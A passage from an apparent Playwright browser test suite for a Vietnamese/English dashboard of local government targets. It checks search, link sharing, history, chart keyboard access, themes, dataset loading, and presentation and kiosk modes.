  const here = await page.inputValue('#unit-term');
  check('search lists the other places and terms with matches, with how many', elsewhere.length >= 2 && elsewhere.every((label) => /, \d{4}-\d{4} \(\d+\)$/.test(label)), elsewhere.join(' | '));
  await page.locator('.found-elsewhere button').first().click();
  await page.waitForFunction((here) => document.querySelector('#unit-term').value !== here, here, { timeout: 3000 }).catch(() => {});
  const opened = await page.evaluate(() => ({ unit: document.querySelector('#unit-term').value, q: new URLSearchParams(location.search).get('q'), rows: [...document.querySelectorAll('.indicator-list tbody th')].map((th) => th.textContent) }));
  check('a place found elsewhere opens with the search kept and its matches listed', opened.unit !== here && opened.q === 'ho ngheo' && opened.rows.length >= 1 && opened.rows.every((name) => /hộ nghèo/i.test(name)), JSON.stringify(opened));
  await page.click('#clear-search');
  await page.waitForFunction(() => !location.search.includes('q='), null, { timeout: 3000 }).catch(() => {});
  const cleared = await page.evaluate(() => ({ value: document.querySelector('#search').value, q: location.search.includes('q='), elsewhere: document.querySelectorAll('.found-elsewhere').length, clear: document.querySelectorAll('#clear-search').length, focus: document.activeElement?.id }));
  check('"Xoá tìm kiếm" clears the search, its matches elsewhere and itself, and gives the focus back to the box', cleared.value === '' && !cleared.q && cleared.elsewhere === 0 && cleared.clear === 0 && cleared.focus === 'search', JSON.stringify(cleared));
  await page.fill('#search', 'ho ngheo');
  await page.waitForFunction(() => location.search.includes('q=ho%20ngheo'));
  // URL round trip: a copied link reopens the same view.
  await page.selectOption('#unit-term', 'cho-moi|2015-2020');
  await page.waitForFunction(() => location.search.includes('unit=cho-moi'));
  const link = page.url();
  const before = await page.evaluate(() => ({ headline: document.querySelector('.headline')?.textContent, rows: document.querySelectorAll('.indicator-list tbody tr').length, search: document.querySelector('#search').value, unit: document.querySelector('#unit-term').value }));
  const second = await context.newPage();
  await second.goto(link);
  await second.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  const after = await second.evaluate(() => ({ headline: document.querySelector('.headline')?.textContent, rows: document.querySelectorAll('.indicator-list tbody tr').length, search: document.querySelector('#search').value, unit: document.querySelector('#unit-term').value }));
  check('a copied link reopens the same view', JSON.stringify(before) === JSON.stringify(after), `${JSON.stringify(before)} vs ${JSON.stringify(after)}`);
  const titles = [await page.title(), await second.title()];
  check('the page title names the view and the place', titles.every((title) => title === 'Tổng quan — Huyện Chợ Mới, 2015-2020 · Chỉ Tiêu'), titles.join(' | '));
  await second.close();
  // Back and forward.
  await page.fill('#search', '');
  await page.click('#tab-ranking');
  await page.waitForFunction(() => location.search.includes('view=ranking'));
  await page.goBack();
  await page.waitForFunction(() => !location.search.includes('view=ranking'));
  const overviewBack = await page.getAttribute('#tab-overview', 'aria-pressed');
  check('back returns to the previous view', overviewBack === 'true', overviewBack);
  await page.goForward();
  await page.waitForFunction(() => location.search.includes('view=ranking'));
  check('forward goes to the next view', (await page.getAttribute('#tab-ranking', 'aria-pressed')) === 'true');
  // Back returns to where the overview was scrolled, not to its top.
  await page.click('#tab-overview');
  await page.waitForFunction(() => !location.search.includes('view=ranking') && document.querySelectorAll('.indicator-link').length > 12);
  await page.locator('.indicator-link').nth(12).scrollIntoViewIfNeeded();
  const scrolledTo = await page.evaluate(() => scrollY);
  await page.locator('.indicator-link').nth(12).click();
  await page.waitForFunction(() => location.search.includes('view=indicator'));
  await page.goBack();
  await page.waitForFunction((y) => !location.search.includes('view=indicator') && Math.abs(scrollY - y) < 2, scrolledTo, { timeout: 5000 }).catch(() => {});
  const backAt = await page.evaluate(() => scrollY);
  check('back to the overview returns to where it was scrolled', scrolledTo > 300 && Math.abs(backAt - scrolledTo) < 2, `${scrolledTo} → ${backAt}`);
  await page.goForward();
  await page.waitForFunction(() => location.search.includes('view=indicator'));
  await page.goBack();
  await page.goBack();
  await page.waitForFunction(() => location.search.includes('view=ranking'));
  // A ranking with nothing to draw offers nothing to download; its sentence says why.
  await page.fill('#search', 'khong-co-chi-tieu-nao');
  await page.waitForFunction(() => /không có chỉ tiêu nào/.test(document.querySelector('.chart-figure figcaption')?.textContent ?? ''));
  const emptyOffers = await page.locator('.chart-figure .downloads:visible, .chart-figure .table-twin:visible').count();
  // Its sentence is said once, inside the chart, not again under it (outside testers).
  const emptyCaptions = await page.locator('#ranking-chart figcaption:visible').count();
  const emptyDrawn = await page.locator('#ranking-chart svg.empty text').allTextContents();
  await page.fill('#search', '');
  await page.waitForFunction(() => [...document.querySelectorAll('.chart-figure .downloads')].some((element) => element.checkVisibility()));
  check('an empty chart offers no table or downloads; they come back with its bars', emptyOffers === 0, `${emptyOffers} offered`);
  check('an empty chart says its sentence once, inside the chart', emptyCaptions === 0 && emptyDrawn.join(' ').includes('không có chỉ tiêu nào'), `${emptyCaptions} captions; ${emptyDrawn.join(' ')}`);
  check('filters, search and history: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
});

await section('hover', async () => {
  // Hover and keyboard on marks.
  const { context, page } = await open('?view=ranking');
  const box = await page.locator('#ranking-chart .chart-svg svg').boundingBox();
  const firstBar = await page.evaluate(() => {
    const rects = [...document.querySelectorAll('#ranking-chart svg rect')];
    const colours = new Set(['#006241', '#2EA06E', '#C43C28', '#969CA6'].map((c) => c.toLowerCase()));
    const bar = rects.find((rect) => colours.has((rect.getAttribute('fill') || '').toLowerCase()));
    const r = bar.getBoundingClientRect();
    return { x: r.x + r.width / 2, y: r.y + r.height / 2 };
  });
  await page.mouse.move(firstBar.x, firstBar.y);
  const tooltip = await page.locator('#ranking-chart .tooltip').textContent({ timeout: 3000 }).catch(() => null);
  check('hovering a bar shows its exact value, Vietnamese-formatted', tooltip !== null && /\d+,\d+\s%/.test(tooltip), String(tooltip));
  await page.screenshot({ path: path.join(shots, 'hover-ranking.png') });
  await page.mouse.move(box.x + 2, box.y + box.height + 400);
  await page.focus('#ranking-chart .chart-host');
  await page.keyboard.press('ArrowDown');
  const focused = await page.locator('#ranking-chart .tooltip').textContent({ timeout: 3000 }).catch(() => null);
  check('keyboard focus on a mark shows its value', focused !== null && focused.length > 5, String(focused));
  // The focused bar is outlined, and the keyboard's tooltip sits under the chart: it covers no
  // bar, its own and its neighbours included.
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowDown');
  const boxes = await page.evaluate(() => {
    const rect = (selector) => { const box = document.querySelector(selector)?.getBoundingClientRect(); return box && { top: box.top, bottom: box.bottom, height: box.height }; };
    return { mark: rect('#ranking-chart .mark-focus'), tooltip: rect('#ranking-chart .tooltip'), chart: rect('#ranking-chart svg') };
  });
  check('keyboard: the focused bar is outlined and its tooltip, under the chart, covers no bar',
    boxes.mark?.height > 5 && boxes.tooltip && boxes.tooltip.top >= boxes.chart.bottom - 1, JSON.stringify(boxes));
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => location.search.includes('view=indicator') && location.search.includes('indicator='), null, { timeout: 5000 }).catch(() => {});
  check('Enter on a mark opens its indicator', page.url().includes('view=indicator'), page.url());
  await page.waitForFunction(() => document.activeElement?.matches('.indicator-detail h2'), null, { timeout: 3000 }).catch(() => {});
  const heading = await page.evaluate(() => { const h2 = document.querySelector('.indicator-detail h2'); const box = h2?.getBoundingClientRect(); return { focused: document.activeElement === h2, top: box?.top, bottom: box?.bottom, height: innerHeight }; });
  check('the opened indicator\'s heading has the focus and is in view, not cut off', heading.focused && heading.top >= 0 && heading.bottom <= heading.height, JSON.stringify(heading));
  // Provenance one click away.
  await page.click('.provenance summary');
  const quote = await page.locator('.provenance blockquote').first().textContent();
  check('the source sentence is one click away', quote && quote.length > 20, quote);
  await page.screenshot({ path: path.join(shots, 'indicator-provenance.png'), fullPage: true });
  await context.close();
});

await section('theme', async () => {
  // Language and theme switches.
  const { context, page, problems } = await open('');
  await page.click('#lang-switch');
  await page.waitForFunction(() => document.documentElement.lang === 'en' && location.search.includes('lang=en'));
  const headline = await page.locator('.headline').textContent();
  check('the language switch turns the screen English', /targets met/.test(headline), headline);
  await page.selectOption('#theme', 'dark');
  await page.waitForFunction(() => document.documentElement.dataset.theme === 'dark');
  const background = await page.evaluate(() => document.querySelector('#ranking-chart svg rect')?.getAttribute('fill'));
  check('the dark theme reaches the charts', background?.toUpperCase() === '#16191E', background);
  await page.screenshot({ path: path.join(shots, 'overview-dark-en.png') });
  await page.selectOption('#theme', 'contrast');
  await page.waitForFunction(() => document.documentElement.dataset.theme === 'contrast');
  await page.screenshot({ path: path.join(shots, 'overview-contrast.png') });
  check('switching language and theme: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
});

await section('files', async () => {
  // Opening datasets: a valid one replaces the data; an invalid one is listed and changes nothing.
  const { context, page, problems } = await open('');
  const valid = JSON.parse(defaultText);
  valid.title = { vi: 'Bộ dữ liệu thử', en: 'Test dataset' };
  await page.setInputFiles('#open-file', { name: 'thu.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(valid)) });
  await page.waitForFunction(() => document.querySelector('h1')?.textContent === 'Bộ dữ liệu thử');
  check('opening a valid file replaces the data', true);
  await page.setInputFiles('#open-file', { name: 'hong.json', mimeType: 'application/json', buffer: Buffer.from(defaultText.replace('"value": 67.5', '"value": "67,5"')) });
  await page.waitForSelector('.rejected');
  const rejected = await page.locator('.rejected').textContent();
  const title = await page.locator('h1').textContent();
  check('an invalid file lists its located problems', rejected.includes('hong.json') && rejected.includes('$.records[0].target.value'), rejected.slice(0, 200));
  check('an invalid file leaves the old data on screen', title === 'Bộ dữ liệu thử', title);
  await page.screenshot({ path: path.join(shots, 'invalid-file-kept-data.png') });
  // Drag and drop: the same path as the picker.
  await page.evaluate((text) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([text], 'keo-tha.json', { type: 'application/json' }));
    document.querySelector('.app').dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
  }, JSON.stringify({ ...valid, title: { vi: 'Kéo thả', en: 'Dropped' } }));
  await page.waitForFunction(() => document.querySelector('h1')?.textContent === 'Kéo thả', null, { timeout: 5000 }).catch(() => {});
  check('dropping a valid file on the page opens it', (await page.locator('h1').textContent()) === 'Kéo thả');
  check('opening files: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
});

await section('params', async () => {
  // Malformed parameters: a notice, never a crash.
  const { context, page } = await open('?scale=99&theme=pink&unit=nowhere&mode=party');
  const state = await page.evaluate(() => document.documentElement.dataset.state);
  const notices = await page.locator('.notices li').count();
  check('malformed parameters give notices and the app still works', state === 'ready' && notices === 4, `${state}, ${notices} notices`);
  await context.close();
  // An empty mode= after a valid one is ignored, by the page's start-up script as by the app: it presents.
  const presenting = await open('?mode=present&mode=');
  const wasm = await fetchedWasm(presenting.page);
  const stage = await presenting.page.locator('.stage').count();
  check('?mode=present&mode= presents: the stage app, a stage on screen', stage === 1 && wasm.length === 1 && wasm[0].startsWith('chitieu-stage-'), `${stage} stage, ${wasm.join(', ')}`);
  await presenting.context.close();
});

await section('timing', async () => {
  // How long a filter change takes to reach the screen: input → the next painted frame.
  const { context, page } = await open('');
  const timings = await page.evaluate(async () => {
    const select = document.querySelector('#status');
    const values = ['exceeded', 'achieved', 'not_achieved', ''];
    const afterPaint = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
    // The work a frame must fit: script and DOM updates (Leptos applies them in microtasks, drained
    // here without yielding to rendering), then style and layout forced synchronously. Paint and
    // compositing come on top; "to next paint" is the whole wait a person sees.
    const work = [];
    const paint = [];
    for (let round = 0; round < 15; round += 1) {
      for (const value of values) {
        await afterPaint();
        const start = performance.now();
        select.value = value;
        select.dispatchEvent(new Event('change', { bubbles: true }));
        for (let i = 0; i < 50; i += 1) await Promise.resolve();
        void document.body.getBoundingClientRect().height;
        work.push(performance.now() - start);
        await afterPaint();
        paint.push(performance.now() - start);
      }
    }
    const summary = (times) => {
      const sorted = [...times].sort((a, b) => a - b);
      return { median: sorted[Math.floor(sorted.length / 2)], p90: sorted[Math.floor(sorted.length * 0.9)], max: sorted[sorted.length - 1] };
    };
    return { n: work.length, work: summary(work), paint: summary(paint) };
  });
  const show = (t) => `median ${t.median.toFixed(1)} ms, p90 ${t.p90.toFixed(1)} ms, max ${t.max.toFixed(1)} ms`;
  console.log(`info filter change on the default dataset (${timings.n} status changes): script + style + layout ${show(timings.work)}; input to next paint ${show(timings.paint)}`);
  await context.close();
});


// ------------------------------------------------------------------ Present and kiosk (issue 5)
await section('present', async () => {
  const { context, page, problems } = await open('?mode=present');
  const wasm = await fetchedWasm(page);
  check('present: the page fetches the stage app only, not the desk app', wasm.length === 1 && wasm[0].startsWith('chitieu-stage-'), wasm.join(', '));
  const slide = () => page.evaluate(() => Number(document.querySelector('.stage')?.dataset.slide));
  const chrome = await page.evaluate(() => document.querySelectorAll('.app-header, .tabs, .filters, button, select').length);
  check('present: no interface chrome', chrome === 0, `${chrome} controls`);
  // A deck of every place is not about the place the desk would open on.
  const tab = await page.title();
  check('present without a unit: the tab names no place', tab === 'Trình chiếu · Chỉ Tiêu', tab);
  const total = await page.evaluate(() => Number(document.querySelector('.visually-hidden').textContent.match(/\/(\d+)/)[1]));
  const steps = [['ArrowRight', 2], ['PageDown', 3], ['Space', 4], ['PageUp', 3], ['ArrowLeft', 2], ['End', total], ['ArrowRight', total], ['Home', 1]];
  for (const [key, expected] of steps) {
    await page.keyboard.press(key);
    await page.waitForFunction((n) => Number(document.querySelector('.stage').dataset.slide) === n, expected, { timeout: 3000 }).catch(() => {});
    check(`present: ${key} goes to slide ${expected}`, (await slide()) === expected, String(await slide()));
  }
  await page.keyboard.type('12');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => location.search.includes('slide=12'), null, { timeout: 3000 }).catch(() => {});
  check('present: a number then Enter jumps, and the slide is in the URL', (await slide()) === 12 && page.url().includes('slide=12'), page.url());
  const counter = await page.evaluate(() => { const element = document.querySelector('.slide-number'); const box = element?.getBoundingClientRect(); return element && { text: element.textContent, height: parseFloat(getComputedStyle(element).fontSize), visible: box.width > 0 && box.bottom <= innerHeight }; });
  check('present: the presenter sees the slide number, at least 1/50 of the height', counter?.text === `12/${total}` && counter.visible && counter.height >= 1080 / 50, JSON.stringify(counter));
  await page.keyboard.press('f');
  await page.waitForFunction(() => document.fullscreenElement !== null, null, { timeout: 3000 }).catch(() => {});
  check('present: f enters full screen', await page.evaluate(() => document.fullscreenElement !== null));
  await page.keyboard.press('f');
  await page.waitForFunction(() => document.fullscreenElement === null, null, { timeout: 3000 }).catch(() => {});
  check('present: f again leaves full screen', await page.evaluate(() => document.fullscreenElement === null));
  // "/" finds a place by name (a province's deck has hundreds): its keys stay in the box, Enter
  // goes to the first found, Esc closes.
  await page.keyboard.press('/');
  await page.waitForSelector('.slide-find input', { timeout: 3000 }).catch(() => {});
  await page.keyboard.type('ben sung 2020');
  await page.waitForFunction(() => document.querySelectorAll('.slide-find li button').length > 0, null, { timeout: 3000 }).catch(() => {});
  const finder = await page.evaluate(() => ({ value: document.activeElement?.value, items: [...document.querySelectorAll('.slide-find li')].map((item) => item.textContent), slide: Number(document.querySelector('.stage').dataset.slide), font: parseFloat(getComputedStyle(document.querySelector('.slide-find')).fontSize) }));
  const wanted = Number(finder.items[0]?.match(/trang (\d+)$/)?.[1]);
  await page.screenshot({ path: path.join(shots, 'present-find.png') });
  check('present: "/" opens a find box that keeps its keys (digits and space do not move the slide)', finder.value === 'ben sung 2020' && finder.slide === 12 && finder.font >= 1080 / 50, JSON.stringify(finder));
  check('… and lists the place with its slide number', finder.items.length === 1 && /^Thị trấn Bến Sung, 2020-2025 — trang \d+$/.test(finder.items[0]), JSON.stringify(finder.items));
  await page.keyboard.press('Enter');
  await page.waitForFunction((n) => Number(document.querySelector('.stage').dataset.slide) === n, wanted, { timeout: 3000 }).catch(() => {});
  const went = await page.evaluate(() => ({ slide: Number(document.querySelector('.stage').dataset.slide), box: !!document.querySelector('.slide-find'), text: document.querySelector('.slide svg')?.textContent ?? '' }));
  check('… Enter goes to that place\'s first slide and closes the box', went.slide === wanted && !went.box && went.text.includes('Bến Sung') && went.text.includes('2020-2025'), JSON.stringify({ ...went, text: went.text.slice(0, 120) }));
  await page.keyboard.press('/');
  await page.waitForSelector('.slide-find input', { timeout: 3000 }).catch(() => {});
  await page.keyboard.type('khong co noi nay');
  const none = await page.evaluate(() => document.querySelector('.slide-find li')?.textContent);
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => !document.querySelector('.slide-find'), null, { timeout: 3000 }).catch(() => {});
  await page.keyboard.press('ArrowRight');
  await page.waitForFunction((n) => Number(document.querySelector('.stage').dataset.slide) === n, wanted + 1, { timeout: 3000 }).catch(() => {});
  check('… says when nothing is found; Esc closes it and the keys move the slides again', none === 'Không tìm thấy nơi nào' && (await slide()) === wanted + 1, `${none} ${await slide()}`);
  // Opened again, the box is empty (not "khong co noi nay" with more typed after it); ↓ reaches the
  // places found and Enter opens the one focused.
  await page.keyboard.press('/');
  await page.waitForSelector('.slide-find input', { timeout: 3000 }).catch(() => {});
  await page.keyboard.type('cho moi');
  await page.waitForFunction(() => document.querySelectorAll('.slide-find li button').length > 0, null, { timeout: 3000 }).catch(() => {});
  const again = await page.evaluate(() => ({ value: document.querySelector('.slide-find input')?.value, items: [...document.querySelectorAll('.slide-find li button')].map((item) => item.textContent) }));
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowDown');
  const focused = await page.evaluate(() => document.activeElement?.textContent ?? '');
  const second = Number(focused.match(/trang (\d+)$/)?.[1]);
  await page.keyboard.press('Enter');
  await page.waitForFunction((n) => Number(document.querySelector('.stage').dataset.slide) === n, second, { timeout: 3000 }).catch(() => {});
  check('… opened again it is empty; ↓ moves through the places found and Enter opens the one focused', again.value === 'cho moi' && again.items.length >= 2 && focused === again.items[1] && (await slide()) === second && !(await page.$('.slide-find')), JSON.stringify({ again, focused, slide: await slide() }));
  await page.keyboard.press('Home');
  for (let step = 0; step < wanted; step += 1) await page.keyboard.press('ArrowRight');
  await page.waitForFunction((n) => Number(document.querySelector('.stage').dataset.slide) === n, wanted + 1, { timeout: 3000 }).catch(() => {});
  // Letters typed with the focus off the field (a click on the slide) still go into the box.
  await page.keyboard.press('/');
  await page.waitForSelector('.slide-find input', { timeout: 3000 }).catch(() => {});
  await page.mouse.click(200, 900);
  await page.keyboard.type('ben');
  const kept = await page.evaluate(() => ({ value: document.querySelector('.slide-find input')?.value, focused: document.activeElement?.tagName }));
  check('… letters typed with the focus off the box go into it', kept.value === 'ben' && kept.focused === 'INPUT', JSON.stringify(kept));
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => !document.querySelector('.slide-find'), null, { timeout: 3000 }).catch(() => {});
  // A "/" pressed by mistake, then the focus elsewhere (a click on the slide): the clicker's next
  // key closes the box and moves on.
  await page.keyboard.press('/');
  await page.waitForSelector('.slide-find input', { timeout: 3000 }).catch(() => {});
  await page.mouse.click(200, 900);
  await page.keyboard.press('PageDown');
  await page.waitForFunction((n) => Number(document.querySelector('.stage').dataset.slide) === n, wanted + 2, { timeout: 3000 }).catch(() => {});
  check('… a clicker key with the focus off the box closes it and moves on', (await slide()) === wanted + 2 && !(await page.$('.slide-find')), String(await slide()));
  // The address bar follows a moment after the slide (app.rs): wait for it, as a presenter would.
  await page.waitForFunction((n) => location.search.includes(`slide=${n}`), wanted + 2, { timeout: 3000 }).catch(() => {});
  await page.reload();
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  check('present: reloading the URL reopens the same slide', (await slide()) === wanted + 2, String(await slide()));
  check('present: no console errors', problems.length === 0, problems.join('; '));
  {
    // A presenter at Bến Sung's congress: only Bến Sung's 2020-2025 deck, opening with its agenda,
    // whose slide numbers lead to the parts they name.
    const deck = await open('?mode=present&unit=ben-sung&term=2020-2025');
    const texts = () => deck.page.evaluate(() => [...document.querySelectorAll('.stage svg text')].map((node) => node.textContent.trim()));
    // Each entry is its bullet, then its line or lines (a long one wraps).
    const agenda = (await texts()).join('\n').split('•\n').slice(1).map((entry) => `• ${entry.split('\n').filter((line) => !/^Nguồn:|^\d+\/\d+$/.test(line)).join(' ')}`.trim());
    const named = await deck.page.title();
    check('present unit+term: the tab names the place', named === 'Trình chiếu — Thị trấn Bến Sung, 2020-2025 · Chỉ Tiêu', named);
    check('present unit+term: the deck opens with an agenda of its parts and their slides', agenda.length >= 4 && agenda[0] === '• Thị trấn Bến Sung, 2020-2025: tổng hợp kết quả — trang 2' && agenda.some((line) => /Kinh tế: % mục tiêu — trang 3/.test(line)), agenda.join(' | '));
    await deck.page.keyboard.type('3');
    await deck.page.keyboard.press('Enter');
    await deck.page.waitForFunction(() => document.querySelector('.stage')?.dataset.slide === '3');
    const third = await texts();
    check('present unit+term: slide 3 is Bến Sung 2020-2025, as the agenda says', third.includes('Thị trấn Bến Sung, 2020-2025') && third.some((text) => text.startsWith('Kinh tế: 10/14 chỉ tiêu đạt hoặc vượt mục tiêu')), third.slice(0, 3).join(' | '));
    const count = await deck.page.evaluate(() => document.querySelector('.slide-number')?.textContent);
    check('present unit+term: a deck of that place and term alone', /^3\/\d+$/.test(count) && Number(count.split('/')[1]) < 119, count);
    await deck.context.close();
  }
  await context.close();
});
await section('slides', async () => {
const slideTextSizes = [];
for (const [width, height] of [[1366, 768], [1920, 1080], [3840, 2160]]) {
  for (const number of [1, 2, 3, 40]) {
    const { context, page } = await open(`?mode=present&slide=${number}`, { width, height });
    const sizes = await page.evaluate(() => [...document.querySelectorAll('.stage svg text')].map((text) => text.getBoundingClientRect().height).filter((h) => h > 0));
    const smallest = Math.min(...sizes);
    check(`slide ${number} at ${width}x${height}: smallest text ≥ 1/50 of the screen height`, smallest >= height / 50 * 0.95, `${smallest.toFixed(1)} px vs ${(height / 50).toFixed(1)}`);
    if (number === 3) slideTextSizes.push(smallest);
    await page.screenshot({ path: path.join(shots, `slide-${number}-${width}x${height}.png`) });
    await context.close();
  }
}
check('slide text grows with the screen', slideTextSizes[2] > slideTextSizes[0] * 2, slideTextSizes.map((s) => s.toFixed(1)).join(' < '));
{
  // On the title slide, which has room to spare (a full slide shrinks its text to fit instead).
  const smallestAt = async (scale) => {
    const { context, page } = await open(`?mode=present&slide=1&scale=${scale}`, { width: 1920, height: 1080 });
    const smallest = await page.evaluate(() => Math.min(...[...document.querySelectorAll('.stage svg text')].map((text) => text.getBoundingClientRect().height).filter((h) => h > 0)));
    await context.close();
    return smallest;
  };
  const [normal, larger] = [await smallestAt(1), await smallestAt(1.5)];
  check('scale=1.5 enlarges slide text', larger > normal * 1.3, `${larger.toFixed(1)} vs ${normal.toFixed(1)}`);
}
});

await section('slide-layout', async () => {
  // Every slide of the deck, at three screen sizes and every scale from 0.75 to 3, measured as
  // drawn: every text at least 1/50 of the height, inside the screen, and no two texts (the
  // presenter's slide number included) overlapping.
  const measureSlide = () => {
    const boxes = [...document.querySelectorAll('.stage svg text, .slide-number')]
      .filter((node) => node.textContent.trim())
      .map((node) => { const box = node.getBoundingClientRect(); return { text: node.textContent.trim().slice(0, 40), left: box.left, top: box.top, right: box.right, bottom: box.bottom, height: box.height }; });
    const problems = [];
    for (const box of boxes) {
      if (box.height < innerHeight / 50 * 0.95) problems.push(`"${box.text}" ${box.height.toFixed(1)} px`);
      if (box.left < -1 || box.top < -1 || box.right > innerWidth + 1 || box.bottom > innerHeight + 1) problems.push(`"${box.text}" leaves the screen`);
    }
    boxes.forEach((one, index) => {
      for (const other of boxes.slice(index + 1)) {
        // Glyph boxes include the line's leading: a third of the smaller text's height may touch.
        const slack = Math.min(one.height, other.height) / 3;
        const x = Math.min(one.right, other.right) - Math.max(one.left, other.left);
        const y = Math.min(one.bottom, other.bottom) - Math.max(one.top, other.top);
        if (x > 1 && y > slack) problems.push(`"${one.text}" overlaps "${other.text}"`);
      }
    });
    return { count: Number(document.querySelector('.slide-number')?.textContent.split('/')[1] ?? 0), texts: boxes.length, problems };
  };
  for (const [width, height] of [[1366, 768], [1920, 1080], [3840, 2160]]) {
    for (const scale of [0.75, 1, 1.5, 2, 3]) {
      const { context, page } = await open(`?mode=present&slide=1&scale=${scale}`, { width, height });
      const first = await page.evaluate(measureSlide);
      const problems = first.problems.map((problem) => `1: ${problem}`);
      let texts = first.texts;
      for (let number = 2; number <= first.count; number += 1) {
        await page.keyboard.press('ArrowRight');
        await page.waitForFunction((n) => document.querySelector('.stage')?.dataset.slide === String(n) && document.querySelector('.stage svg text'), number);
        const result = await page.evaluate(measureSlide);
        texts += result.texts;
        problems.push(...result.problems.map((problem) => `${number}: ${problem}`));
        if (scale === 3 && number === 5) await page.screenshot({ path: path.join(shots, `slide-5-${width}x${height}-scale-3.png`) });
      }
      check(`slides at ${width}x${height}, scale ${scale}: all ${first.count} slides readable, inside the screen, nothing overlapping`, first.count > 10 && problems.length === 0, `${texts} texts; ${problems.slice(0, 5).join('; ')}`);
      await context.close();
    }
  }
});

await section('kiosk', async () => {
  // Kiosk: advances by itself, hides the cursor, pauses on input, resumes after 60 s idle, drifts.
  // The page runs on Playwright's fake clock, so a minute of idleness takes no real minute.
  const { context, page, problems } = await open('?mode=kiosk&interval=2', undefined, { fakeClock: true });
  const clock = context.clock;
  const read = () => page.evaluate(() => ({ slide: Number(document.querySelector('.stage').dataset.slide), style: document.querySelector('.stage').getAttribute('style') }));
  const settle = () => page.evaluate(() => new Promise((resolve) => queueMicrotask(resolve)));
  const kicker = () => page.evaluate(() => (document.querySelector('.stage svg text')?.textContent ?? '').trim());
  const progress = () => page.evaluate(() => parseFloat(document.querySelector('.stage').style.getPropertyValue('--progress')));
  const today = await page.evaluate(() => { const d = new Date(); return `${String(d.getDate()).padStart(2, '0')}/${String(d.getMonth() + 1).padStart(2, '0')}/${d.getFullYear()}`; });
  const start = await read();
  const startProgress = await progress();
  const opening = await page.evaluate(() => [...document.querySelectorAll('.stage svg text')].map((text) => text.textContent).join(' | '));
  check('kiosk: the title slide lists its places without slide numbers (a lobby cannot jump to one)', start.slide === 1 && /Bến Sung/.test(opening) && !/— trang \d/.test(opening), opening.slice(0, 300));
  await clock.runFor(2100);
  await settle();
  const advanced = await read();
  check('kiosk: advances every interval', advanced.slide === start.slide + 1, `${start.slide} → ${advanced.slide}`);
  const line = await kicker();
  check('kiosk: each slide says the day and how recent the data is', line.includes(today) && line.includes('Dữ liệu cập nhật đến'), line);
  check('kiosk: a line along the bottom grows with the slide number', startProgress > 0 && (await progress()) > startProgress, `${startProgress} → ${await progress()}`);
  await clock.runFor(3300);
  await settle();
  check('kiosk: the cursor hides after 3 s still', (await read()).style.includes('cursor: none'), (await read()).style);
  await page.mouse.move(300, 300);
  await page.mouse.move(320, 310);
  await clock.runFor(300);
  await settle();
  const touched = await read();
  check('kiosk: moving shows the cursor again', touched.style.includes('cursor: auto'), touched.style);
  const sign = () => page.evaluate(() => {
    const sign = document.querySelector('.paused-sign');
    if (!sign) return null;
    const box = sign.getBoundingClientRect();
    // The slide's title, which the sign must not cover.
    const title = [...document.querySelectorAll('.slide svg text')].find((text) => text.getAttribute('font-weight') === 'bold' || /bold|700/.test(getComputedStyle(text).fontWeight));
    const titleBox = title?.getBoundingClientRect();
    const clear = !titleBox || box.bottom <= titleBox.top || box.left >= titleBox.right;
    return { text: sign.textContent, height: box.height, fontSize: parseFloat(getComputedStyle(sign).fontSize), inside: box.left >= 0 && box.right <= innerWidth && box.top >= 0, clear };
  });
  const shown = await sign();
  check('kiosk: a paused loop shows a sign (text over 1/50 of the height, inside the screen, off the title)', shown !== null && shown.text.includes('Tạm dừng') && shown.text.includes('1 phút') && shown.fontSize >= 1080 / 50 && shown.inside && shown.clear, JSON.stringify(shown));
  await clock.runFor(5000);
  await settle();
  check('kiosk: input pauses the loop', (await read()).slide === touched.slide, `${touched.slide} → ${(await read()).slide}`);
  await clock.runFor(50000);
  await settle();
  check('kiosk: still paused 55 s after the input', (await read()).slide === touched.slide, `${touched.slide} → ${(await read()).slide}`);
  await clock.runFor(7000);
  await settle();
  const resumed = await read();
  check('kiosk: the loop resumes after 60 s idle', resumed.slide > touched.slide, `${touched.slide} → ${resumed.slide}`);
  check('kiosk: once resumed, the pause sign is gone', (await sign()) === null, JSON.stringify(await sign()));
  const drift = resumed.style.match(/translate\(([-\d.]+)px, ([-\d.]+)px\)/);
  const [dx, dy] = drift ? [Number(drift[1]), Number(drift[2])] : [0, 0];
  check('kiosk: the content drifts after a minute, by at most 1.5 % of the screen', (dx !== 0 || dy !== 0) && Math.abs(dx) <= 1920 * 0.015 && Math.abs(dy) <= 1080 * 0.015, `${dx}, ${dy}`);
  await page.reload();
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  const after = await read();
  check('kiosk: a reload resumes at the same slide', Math.abs(after.slide - resumed.slide) <= 1, `${resumed.slide} → ${after.slide}`);
  check('kiosk: no console errors (wake lock failure is silent)', problems.length === 0, problems.join('; '));
  await context.close();
  // A kiosk whose first load fails, with no good copy kept, tries again by itself, in kiosk mode.
  {
    const retrying = await browser.newContext({ viewport: { width: 1920, height: 1080 } });
    await retrying.clock.install();
    let asked = 0;
    await retrying.route('**/data/default.json', (route) => (++asked === 1 ? route.fulfill({ status: 500, body: 'down' }) : route.continue()));
    const kioskPage = await retrying.newPage();
    await kioskPage.goto(`${base}?mode=kiosk&interval=2`);
    await kioskPage.waitForFunction(() => document.documentElement.dataset.state === 'error');
    await retrying.clock.runFor(31000);
    await kioskPage.waitForFunction(() => document.documentElement.dataset.state === 'ready' && document.querySelector('.stage svg'), null, { timeout: 15000 }).catch(() => {});
    const after = await kioskPage.evaluate(() => ({ state: document.documentElement.dataset.state, stage: !!document.querySelector('.stage svg'), search: location.search }));
    check('kiosk: after a failed first load it tries again by itself and shows its slides, still a kiosk', after.state === 'ready' && after.stage && after.search.includes('mode=kiosk') && asked >= 2, JSON.stringify({ ...after, asked }));
